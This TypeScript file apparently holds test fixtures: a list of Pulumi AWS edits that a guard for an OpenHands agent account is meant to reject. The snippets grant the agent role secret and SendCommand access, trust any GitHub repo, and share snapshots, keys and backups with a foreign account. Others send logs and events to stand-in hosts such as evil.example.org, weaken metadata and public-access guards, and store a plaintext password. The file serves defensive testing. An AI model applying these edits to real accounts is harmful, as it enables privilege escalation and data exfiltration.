/** Edits that give something away inside AWS, or take a guard of the account away. `at` is what prod already has. */
export const accountEdits: readonly (readonly [what: string, line: string])[] = [
    [
        "other host's secret",
        'new aws.iam.RolePolicy("x", { role: "openhands-agent-host", policy: JSON.stringify({ Version: "2012-10-17", Statement: [{ Effect: "Allow", Action: "secretsmanager:GetSecretValue", Resource: "arn:aws:secretsmanager:us-east-1:111122223333:secret:llm/anthropic-AbCdEf" }] }) });',
    ],
    [
        "ssm SendCommand",
        'new aws.iam.RolePolicy("x", { role: "openhands-agent-host", policy: JSON.stringify({ Version: "2012-10-17", Statement: [{ Effect: "Allow", Action: "ssm:SendCommand", Resource: "*" }] }) });',
    ],
    [
        "subscription filter",
        'new aws.iam.RolePolicy("x", { role: "openhands-agent-host", policy: JSON.stringify({ Version: "2012-10-17", Statement: [{ Effect: "Allow", Action: "logs:PutSubscriptionFilter", Resource: "*" }] }) });',
    ],
    [
        "NotAction grant",
        'new aws.iam.RolePolicy("x", { role: "openhands-agent-host", policy: JSON.stringify({ Version: "2012-10-17", Statement: [{ Effect: "Allow", NotAction: "iam:*", Resource: "*" }] }) });',
    ],
    [
        "role trusts github oidc",
        'new aws.iam.Role("x", { name: "x", assumeRolePolicy: JSON.stringify({ Version: "2012-10-17", Statement: [{ Effect: "Allow", Action: "sts:AssumeRoleWithWebIdentity", Principal: { Federated: "arn:aws:iam::111122223333:oidc-provider/token.actions.githubusercontent.com" }, Condition: { StringLike: { "token.actions.githubusercontent.com:sub": "repo:*" } } }] }) });',
    ],
    ["iam user key", 'const u = new aws.iam.User("xu", {}); new aws.iam.AccessKey("x", { user: u.name });'],
    [
        "policy attachment list",
        'new aws.iam.PolicyAttachment("x", { roles: ["openhands-agent-host"], policyArn: "arn:aws:iam::aws:policy/AmazonS3FullAccess" });',
    ],
    [
        "rolesanywhere",
        'new aws.rolesanywhere.Profile("x", { name: "x", roleArns: ["arn:aws:iam::111122223333:role/openhands-agent-host"] });',
    ],
    [
        "eks pod identity",
        'new aws.eks.PodIdentityAssociation("x", { clusterName: "x", namespace: "x", serviceAccount: "x", roleArn: "arn:aws:iam::111122223333:role/openhands-agent-host" });',
    ],
    [
        "bucket replication",
        'new aws.s3.BucketReplicationConfig("x", { bucket: "ttb-verifier-artifacts-111122223333", role: "arn:aws:iam::111122223333:role/x", rules: [{ status: "Enabled", destination: { bucket: "arn:aws:s3:::elsewhere" } }] });',
    ],
    [
        "bucket notification eventbridge",
        'new aws.s3.BucketNotification("x", { bucket: "ttb-verifier-artifacts-111122223333", eventbridge: true });',
    ],
    [
        "bucket logging elsewhere",
        'new aws.s3.BucketLogging("x", { bucket: "ttb-verifier-artifacts-111122223333", targetBucket: "elsewhere", targetPrefix: "x" });',
    ],
    ["s3 access point", 'new aws.s3.AccessPoint("x", { bucket: "ttb-verifier-artifacts-111122223333", name: "x" });'],
    [
        "bucket website",
        'new aws.s3.BucketWebsiteConfiguration("x", { bucket: "ttb-verifier-artifacts-111122223333", redirectAllRequestsTo: { hostName: "evil.example.org" } });',
    ],
    [
        "log subscription",
        'new aws.cloudwatch.LogSubscriptionFilter("x", { logGroup: "/openhands/agent", filterPattern: "", destinationArn: "arn:aws:logs:us-east-1:999999999999:destination:x", name: "x" });',
    ],
    [
        "account log policy",
        'new aws.cloudwatch.LogAccountPolicy("x", { policyName: "x", policyType: "SUBSCRIPTION_FILTER_POLICY", policyDocument: JSON.stringify({ DestinationArn: "arn:aws:logs:us-east-1:999999999999:destination:x" }) });',
    ],
    [
        "event target http",
        'const r = new aws.cloudwatch.EventRule("xr", { eventPattern: "{}" }); new aws.cloudwatch.EventTarget("x", { rule: r.name, arn: "arn:aws:events:us-east-1:999999999999:event-bus/x" });',
    ],
    [
        "alarm tells a foreign topic",
        'new aws.cloudwatch.MetricAlarm("x", { comparisonOperator: "GreaterThanThreshold", evaluationPeriods: 1, metricName: "CPUUtilization", namespace: "AWS/EC2", period: 60, statistic: "Average", threshold: 80, alarmActions: ["arn:aws:sns:us-east-1:999999999999:x"] });',
    ],
    [
        "sns https subscription",
        'const tp = new aws.sns.Topic("xt", { kmsMasterKeyId: "alias/aws/sns" }); new aws.sns.TopicSubscription("x", { topic: tp.arn, protocol: "https", endpoint: "https://hooks.example.org/x" });',
    ],
    [
        "snapshot permission",
        'new aws.ec2.SnapshotCreateVolumePermission("x", { accountId: "999999999999", snapshotId: "snap-0aaaaaaaaaaaaaaaa" });',
    ],
    [
        "ami launch permission",
        'new aws.ec2.AmiLaunchPermission("x", { accountId: "999999999999", imageId: "ami-0aaaaaaaaaaaaaaaa" });',
    ],
    [
        "kms grant",
        'new aws.kms.Grant("x", { keyId: "00000000-0000-4000-8000-000000000000", granteePrincipal: "arn:aws:iam::999999999999:root", operations: ["Decrypt"] });',
    ],
    [
        "secret policy",
        'new aws.secretsmanager.SecretPolicy("x", { secretArn: "arn:aws:secretsmanager:us-east-1:111122223333:secret:llm/anthropic-AbCdEf", policy: JSON.stringify({ Version: "2012-10-17", Statement: [{ Effect: "Allow", Principal: { AWS: "999999999999" }, Action: "secretsmanager:GetSecretValue", Resource: "*" }] }) });',
    ],
    [
        "backup copy elsewhere",
        'new aws.backup.Plan("x", { name: "x", rules: [{ ruleName: "x", targetVaultName: "Default", schedule: "cron(0 3 * * ? *)", copyActions: [{ destinationVaultArn: "arn:aws:backup:us-east-1:999999999999:backup-vault:x" }] }] });',
    ],
    [
        "flow log to foreign bucket",
        'new aws.ec2.FlowLog("x", { vpcId: at.network.vpcId, trafficType: "ALL", logDestinationType: "s3", logDestination: "arn:aws:s3:::elsewhere" });',
    ],
    [
        "ssm resource data sync",
        'new aws.ssm.ResourceDataSync("x", { name: "x", s3Destination: { bucketName: "elsewhere", region: "us-east-1" } });',
    ],
    [
        "ssm parameter with password",
        'new aws.ssm.Parameter("x", { name: "/db", type: "String", value: "postgres://admin:hunter2pass@db/x" });',
    ],
    [
        "dlm cross account",
        'new aws.dlm.LifecyclePolicy("x", { description: "x", executionRoleArn: "arn:aws:iam::111122223333:role/x", state: "ENABLED", policyDetails: { resourceTypes: ["VOLUME"], targetTags: { a: "b" }, schedules: [{ name: "x", createRule: { interval: 12 }, retainRule: { count: 1 }, shareRules: [{ targetAccounts: ["999999999999"] }] }] } });',
    ],
    ["metadata defaults v1", 'new aws.ec2.InstanceMetadataDefaults("x", { httpTokens: "optional" });'],
    [
        "account PAB off",
        'new aws.s3.AccountPublicAccessBlock("x", { blockPublicAcls: false, blockPublicPolicy: false });',
    ],
    [
        "provider assume role",
        'new aws.Provider("x", { region: "us-east-1", allowedAccountIds: ["111122223333"], assumeRoles: [{ roleArn: "arn:aws:iam::999999999999:role/x" }] });',
    ],
    [
        "provider endpoints",
        'new aws.Provider("x", { region: "us-east-1", allowedAccountIds: ["111122223333"], endpoints: [{ s3: "https://s3.evil.example.org" }] });',
    ],
    [
        "ssm service setting default host mgmt",
        'new aws.ssm.ServiceSetting("x", { settingId: "arn:aws:ssm:us-east-1:111122223333:servicesetting/ssm/managed-instance/default-ec2-instance-management-role", settingValue: "service-role/x" });',
    ],
];
